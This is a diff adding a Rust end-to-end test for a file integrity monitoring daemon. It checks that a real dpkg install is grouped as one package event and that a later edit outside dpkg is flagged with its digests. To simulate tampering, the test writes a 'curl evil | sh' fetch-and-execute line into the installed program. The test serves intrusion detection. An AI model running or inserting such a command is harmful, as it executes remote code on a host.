@@ -161,3 +161,100 @@ fn fim_init_check_update_return_when_stderr_is_a_terminal() {
         assert!(terminal.contains("42 entries"), "fim {sub}: summary missing:\n{terminal}");
     }
 }
+
+/// Package-aware FIM in the running daemon: a real `dpkg -i` of a package built here, under a
+/// watched directory, is one `fim.package_transaction` event naming the package, with no
+/// per-file alert; then the package's program replaced outside dpkg is a `fim.change`
+/// attributed `outside-package-manager` with the package's and the file's digests, shown by
+/// `agentctl fim events` and counted in `agentctl fim status`.
+#[test]
+fn the_daemon_groups_a_real_dpkg_install_and_flags_an_edit_outside_dpkg() {
+    const TEST: &str = "the_daemon_groups_a_real_dpkg_install_and_flags_an_edit_outside_dpkg";
+    if !is_root() {
+        guestward_core::testing::skip_or_fail(TEST, "installing a package needs root");
+        return;
+    }
+    if std::process::Command::new("dpkg-deb").arg("--version").output().is_err() {
+        guestward_core::testing::skip_or_fail(TEST, "dpkg-deb is not installed");
+        return;
+    }
+    /// Purges the package and removes its directory, also when the test fails.
+    struct Installed(String, std::path::PathBuf);
+    impl Drop for Installed {
+        fn drop(&mut self) {
+            let _ = std::process::Command::new("dpkg").args(["--purge", &self.0]).output();
+            let _ = std::fs::remove_dir_all(&self.1);
+        }
+    }
+    let name = format!("guestward-e2e-{}", std::process::id());
+    let dir = std::path::Path::new("/opt").join(&name);
+    let _installed = Installed(name.clone(), dir.clone());
+    std::fs::create_dir_all(&dir).unwrap();
+    let work = tempfile::tempdir().unwrap();
+    let tool_rel = format!("opt/{name}/bin/tool");
+    let deb = guestward_core::testing::build_deb(
+        work.path(),
+        &name,
+        "1.0-1",
+        &[(&tool_rel, b"#!/bin/sh\necho 1\n")],
+    );
+
+    let daemon = Daemon::start_with(
+        &format!("[fim]\npaths = [\"{}\"]\ndebounce_ms = 50\n[imds]\nenabled = false\n", dir.display()),
+        &[],
+    );
+    let events = || -> Vec<Value> {
+        let (_, out, _) = daemon.ctl(&["--json", "fim", "events", "--since", "2000-01-01T00:00:00Z"]);
+        serde_json::from_str(&out).unwrap_or_default()
+    };
+    let (code, out, err) = daemon.ctl(&["fim", "baseline", "--wait"]);
+    assert_eq!(code, 0, "{out}{err}");
+
+    guestward_core::testing::dpkg_retrying(&["-i".as_ref(), deb.as_os_str()]);
+    daemon.wait_for(
+        || {
+            events().iter().any(|e| {
+                e["kind"] == "fim.package_transaction"
+                    && e["data"]["packages"]
+                        .as_array()
+                        .is_some_and(|p| p.iter().any(|p| p["name"] == name.as_str()))
+            })
+        },
+        "the grouped package transaction",
+    );
+    let tool = dir.join("bin/tool").display().to_string();
+    assert!(
+        !events().iter().any(|e| e["kind"] == "fim.change" && e["data"]["path"] == tool.as_str()),
+        "the installed file is in the transaction, not an alert of its own: {:#?}",
+        events()
+    );
+
+    std::fs::write(dir.join("bin/tool"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
+    daemon.wait_for(
+        || {
+            events().iter().any(|e| {
+                e["kind"] == "fim.change"
+                    && e["data"]["path"] == tool.as_str()
+                    && e["data"]["package"]["origin"] == "outside-package-manager"
+            })
+        },
+        "the edit outside dpkg, attributed",
+    );
+    let flagged = events()
+        .into_iter()
+        .find(|e| e["kind"] == "fim.change" && e["data"]["path"] == tool.as_str())
+        .unwrap();
+    let package = &flagged["data"]["package"];
+    assert_eq!(package["owner"]["name"], name.as_str(), "{flagged:#}");
+    // The digests as dpkg recorded it and as md5sum reads the file now.
+    let recorded = std::fs::read_to_string(format!("/var/lib/dpkg/info/{name}.md5sums")).unwrap();
+    let recorded = recorded.split_whitespace().next().unwrap();
+    let (_, now, _) = run(std::process::Command::new("md5sum").arg(&tool));
+    assert_eq!(package["expected"]["hex"], recorded, "{flagged:#}");
+    assert_eq!(package["actual"]["hex"], now.split_whitespace().next().unwrap(), "{flagged:#}");
+    let (code, out, err) = daemon.ctl(&["fim", "events", "--since", "2000-01-01T00:00:00Z"]);
+    assert_eq!(code, 0, "{err}");
+    assert!(out.contains("package transaction dpkg-"), "{out}");
+    assert!(out.contains(&format!("package {name} 1.0-1 (dpkg): outside-package-manager")), "{out}");
+    assert_eq!(daemon.terminate(), 0);
+}
